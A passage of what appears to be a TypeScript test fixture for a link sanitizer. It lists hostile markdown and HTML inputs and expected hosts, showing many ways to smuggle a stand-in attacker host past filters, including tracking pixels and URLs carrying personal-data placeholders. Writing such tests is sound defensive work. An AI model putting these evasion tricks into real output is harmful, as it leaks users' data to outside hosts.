    name: "markers: source marks that are opened, numbered and never closed",
    kind: "answer",
    make: (n) => fill("[1, [2][", n),
    largest: ascii,
  },
  {
    name: "markers: lists of numbers within one mark",
    kind: "answer",
    make: (n) => wrap("It is so [", "1, 2-3; ", "x", n),
    largest: ascii,
  },
  {
    name: "markers: marks with blank lines before each of them",
    kind: "answer",
    make: (n) => wrap("Yes", "\n\n \n", "[1]", n),
    largest: ascii,
  },
  {
    name: "links: texts closed and targets opened, without any opening bracket",
    kind: "answer",
    make: (n) => fill("a](b ](<", n),
    largest: ascii,
  },
  {
    name: "links: no place at which no link could be open",
    kind: "answer",
    make: (n) => wrap("[a", "[b\\]", "", n),
    largest: ascii,
  },
  {
    name: "links: slashes and hosts without a scheme",
    kind: "answer",
    make: (n) => fill("//a.b//", n),
    largest: ascii,
  },
  {
    name: "links: dotted words which could all be host names",
    kind: "answer",
    make: (n) => fill("co.uk.", n),
    largest: ascii,
  },
  {
    name: "links: brackets at the end of an address, counted again for each one",
    kind: "answer",
    make: (n) =>
      halves(
        (m) => wrap("https://a.example/", "(", "", m),
        (m) => fill(")", m),
        n,
      ),
    largest: ascii,
  },
  {
    name: "links: schemes spelt with entities and cut short",
    kind: "answer",
    make: (n) => fill("&#104;&#x74;tp&colon;/", n),
    largest: ascii,
  },
  {
    name: "links: mail addresses without an end, joined by at signs",
    kind: "answer",
    make: (n) => fill("mailto:a.b@c-", n),
    largest: ascii,
  },
  {
    name: "links: reference definitions at the end of which a title never closes",
    kind: "answer",
    make: (n) => fill('[a]: b "\n', n),
    largest: ascii,
  },
  {
    name: "HTML: tags with quotes that are never closed",
    kind: "answer",
    make: (n) => fill("<a href='x<img src=\"", n),
    largest: ascii,
  },
  {
    name: "code: backticks in runs of one, two and three",
    kind: "answer",
    make: (n) => fill("` `` ``` a", n),
    largest: ascii,
  },
  {
    name: "stand-ins: texts that begin like a stand-in for personal data and stop",
    kind: "answer",
    make: (n) => series((i) => `[phone_${i} {email${i} <card-`, n),
    largest: ascii,
  },
  {
    name: "white space: zero-width characters inside what could become an address",
    kind: "answer",
    make: (n) => wrap("w", "\u200b\u2060", "ww.a.example", n),
    largest: threeBytes,
  },
  {
    name: "host names: labels in punycode that have to be decoded one by one",
    kind: "answer",
    make: (n) => fill("xn--80ak6aa92e.", n),
    largest: ascii,
  },
];

export const hostileInputs: HostileInput[] = [
  ...messages,
  ...markdown,
  ...html,
  ...csv,
  ...richText,
  ...texts,
  ...answers,
];

export const hostileLinks: LinkInput[] = [
  {
    name: "www host after a round bracket and a star, where an autolink may begin",
    answer: "See this page (*www.collect.example.net/a?d=4711*) for more.",
    hosts: ["www.collect.example.net"],
  },
  {
    name: "www in mixed case",
    answer: "Go to wWw.Collect.Example.NET/reset now.",
    hosts: ["www.collect.example.net"],
  },
  {
    name: "www host with an underscore in an early label",
    answer: "Details: www.a_b.collect.example.net/x",
    hosts: ["www.a_b.collect.example.net"],
  },
  {
    name: "protocol-relative target of a link",
    answer: "[Your invoice](//collect.example.net/i?n=1)",
    hosts: ["collect.example.net"],
  },
  {
    name: "protocol-relative target in which the slashes are backslashes",
    answer: "[Your invoice](\\\\collect.example.net/i) and [again](/\\collect.example.net/i)",
    hosts: ["collect.example.net"],
  },
  {
    name: "protocol-relative target with a tab entity and a line-end entity between the slashes",
    answer: "[a](/&Tab;/collect.example.net) [b](/&NewLine;/collect.example.net)",
    hosts: ["collect.example.net"],
  },
  {
    name: "a scheme in mixed case with one slash, or none",
    answer: "[a](hTtPs:/collect.example.net/x) [b](HTTPS:collect.example.net/x)",
    hosts: ["collect.example.net"],
  },
  {
    name: "a scheme spelt with numeric entities",
    answer: "[open](&#104;ttps&#58;&#47;&#x2f;collect.example.net/x)",
    hosts: ["collect.example.net"],
  },
  {
    name: "a scheme whose colon and slashes are named entities",
    answer: "[open](https&colon;&sol;&sol;collect&period;example&period;net/x)",
    hosts: ["collect.example.net"],
  },
  {
    name: "a target with backslash escapes inside the scheme and host",
    answer: "[open](https\\:\\/\\/collect\\.example\\.net/x)",
    hosts: ["collect.example.net"],
  },
  {
    name: "an autolink in angle brackets with upper case scheme",
    answer: "Write here: <HTTPS://collect.example.net/p?q=secret>.",
    hosts: ["collect.example.net"],
  },
  {
    name: "a target in angle brackets with spaces, and a title on the next line",
    answer: "[a](  <https://collect.example.net/a b>\n  'title' )",
    hosts: ["collect.example.net"],
  },
  {
    name: "a reference link whose definition follows far below, with another case in the label",
    answer:
      "Please use the [Help Centre].\n\nThat is all.\n\n[help\n  CENTRE]:\n   <https://collect.example.net/h>\n",
    hosts: ["collect.example.net"],
  },
  {
    name: "a definition within a block quote and a list, used outside of them",
    answer: "[here][1]\n\n> - [1]: //collect.example.net/h\n",
    hosts: ["collect.example.net"],
  },
  {
    name: "an image by reference, which loads without a click",
    answer: "![][p]\n\n[p]: https://collect.example.net/pixel.gif?d=4711 (x)\n",
    hosts: ["collect.example.net"],
  },
  {
    name: "an image within the text of a link to the own site",
    answer: "[![logo](https://collect.example.net/p.png)](/help)",
    hosts: ["collect.example.net"],
  },
  {
    name: "HTML elements with source sets, posters and backgrounds",
    answer:
      "<img srcset='//collect.example.net/1x 1x'><video poster=https://media.example.org/p></video><td background=//bg.example.com>",
    hosts: ["collect.example.net", "media.example.org", "bg.example.com"],
  },
  {
    name: "an HTML anchor with line ends and slashes in place of spaces, unquoted",
    answer: "Press <a/href\n=\nhttps://collect.example.net/x\n>here</a>.",
    hosts: ["collect.example.net"],
  },
  {
    name: "HTML forms, frames and a base that moves every relative link",
    answer:
      "<base href=//collect.example.net/><form action=https://form.example.org/s><button formaction='//b.example.com'>go</button></form><iframe src=//f.example.com></iframe>",
    hosts: ["collect.example.net", "form.example.org", "b.example.com", "f.example.com"],
  },
  {
    name: "an SVG link and a style with an address",
    answer:
      "<svg><a xlink:href='https://collect.example.net/x'><text>a</text></a></svg> <p style=\"background:url(//css.example.org/p)\">b</p>",
    hosts: ["collect.example.net", "css.example.org"],
  },
  {
    name: "a page that moves on by itself, in a meta element",
    answer: '<meta http-equiv="refresh" content="0;url=//collect.example.net/x">',
    hosts: ["collect.example.net"],
  },
  {
    name: "a bare host with a path, without scheme or www",
    answer: "Enter your code at collect.example.net/verify?code=123456 please.",
    hosts: ["collect.example.net"],
  },
  {
    name: "a bare host with a port, right after a bracket and before a full stop",
    answer: "(collect.example.net:8443/x). Or “media.example.org”.",
    hosts: ["collect.example.net", "media.example.org"],
  },
  {
    name: "bare numeric addresses, also as one number and in hexadecimal",
    answer: "http://203.0.113.7/a 203.0.113.7/b [c](http://3405803783/c) [d](http://0xcb007107/d)",
    hosts: ["203.0.113.7"],
  },
  {
    name: "an address of IPv6",
    answer: "[a](http://[2001:db8::7]/a) <http://[2001:db8::7]/b>",
    hosts: ["[2001:db8::7]"],
  },
  {
    name: "a host in punycode, bare and with a scheme",
    answer: "xn--bcher-kva.example.net/a and https://xn--bcher-kva.example.net/b",
    hosts: ["xn--bcher-kva.example.net"],
  },
  {
    name: "a host with letters of other scripts",
    answer: "www.bücher.example.net/a https://bücher.example.net/b bücher.example.net/c",
    hosts: ["www.xn--bcher-kva.example.net", "xn--bcher-kva.example.net"],
  },
  {
    name: "fullwidth letters and dots which a browser folds to ASCII",
    answer:
      "[a](https://collect\uff0eexample\uff0enet/a) [b](https://\uff43ollect\u3002example\uff61net/b)",
    hosts: ["collect.example.net"],
  },
  {
    name: "zero-width characters within the scheme, the host and www",
    answer:
      "w\u200bww.collect.example.net/a https://coll\u200bect.example.net/b ht\u2060tps://collect.example.net/c [d](https://collect.exam\u00adple.net/d)",
    hosts: ["collect.example.net", "www.collect.example.net"],
  },
  {
    name: "a zero-width character right before the scheme, so that no word boundary is seen",
    answer: "x\u200dhttps://collect.example.net/a and \ufeffwww.collect.example.net/b",
    hosts: ["collect.example.net", "www.collect.example.net"],
  },
  {
    name: "tabs and line ends in a target, which a browser removes",
    answer:
      "[a](<ht\ttps://collect.example.net/a>) <a href='https:/\n/collect.exa\nmple.net/b'>b</a>",
    hosts: ["collect.example.net"],
  },
  {
    name: "a familiar host in front of an at sign",
    answer:
      "[Help](https://help.example.com@collect.example.net/x) https://help.example.com:pw@collect.example.net/y",
    hosts: ["collect.example.net"],
  },
  {
    name: "a familiar host as the first labels of another, and behind a backslash",
    answer:
      "https://help.example.com.collect.example.net/ [b](https://collect.example.net\\@help.example.com/)",
    hosts: ["help.example.com.collect.example.net", "collect.example.net"],
  },
  {
    name: "a percent-encoded host",
    answer: "[a](https://collect%2Eexample%2Enet/a) [b](//%63ollect.example.net/b)",
    hosts: ["collect.example.net"],
  },
  {
    name: "mail addresses, bare, in angle brackets and with a scheme",
    answer:
      "Write to thief@collect.example.net, <thief@mail.example.org> or MAILTO:thief@box.example.com?body=4711",
    hosts: ["collect.example.net", "mail.example.org", "box.example.com"],
  },
  {
    name: "a chat address of XMPP with a resource, which GFM links",
    answer: "Chat: xmpp:agent@collect.example.net/room",
    hosts: ["collect.example.net"],
  },
  {
    name: "a mail address with a plus, dots and underscores before it",
    answer: "_a.b+c@collect.example.net_ and **d@mail.example.org**",
    hosts: ["collect.example.net", "mail.example.org"],
  },
  {
    name: "other schemes that carry a host",
    answer:
      "ftp://collect.example.net/a [b](wss://ws.example.org/b) [c](git+ssh://git@git.example.com/c) <irc://irc.example.com/d>",
    hosts: ["collect.example.net", "ws.example.org", "git.example.com", "irc.example.com"],
  },
  {
    name: "a link that starts in code which is never closed",
    answer: "Type `npm i and see [x](https://collect.example.net/x)",
    hosts: ["collect.example.net"],
  },
  {
    name: "a fence that is closed by a longer one, and a link right after it",
    answer: "```text\ncode\n`````\nwww.collect.example.net/a\n",
    hosts: ["www.collect.example.net"],
  },
  {
    name: "emphasis in the middle of a host, which disappears when rendered",
    answer: "www.**collect**.example.net/a https://col*lect*.example.net/b",
    hosts: ["www.collect.example.net", "collect.example.net"],
  },
  {
    name: "a link in a table cell with escaped bars",
    answer:
      "| a | b |\n|---|---|\n| [x\\|y](https://collect.example.net/?a\\|b) | www.media.example.org\\|z |\n",
    hosts: ["collect.example.net", "www.media.example.org"],
  },
  {
    name: "a footnote whose text is the link",
    answer: "As described.[^n]\n\n[^n]: https://collect.example.net/n\n",
    hosts: ["collect.example.net"],
  },
  {
    name: "a link whose text holds source marks and brackets",
    answer: "[see [1] and \\] [2]](https://collect.example.net/x)[1]",
    hosts: ["collect.example.net"],
  },
  {
    name: "links of wikis and chat programs, for lenient renderers",
    answer:
      "[[https://collect.example.net/a|here]] <https://media.example.org/b|there> [url=//bb.example.com/c]c[/url]",
    hosts: ["collect.example.net", "media.example.org", "bb.example.com"],
  },
  {
    name: "an address to which a stand-in for personal data is attached",
    answer: "www.collect.example.net/?p=[phone_1]&m=[email_1] and //media.example.org/[card_1]",
    hosts: ["www.collect.example.net", "media.example.org"],
  },
  {
    name: "text direction marks around and within the host",
    answer: "\u202ehttps://collect.example.net/a\u202c [b](https://\u200ecollect.example.net/b)",
    hosts: ["collect.example.net"],
  },
];
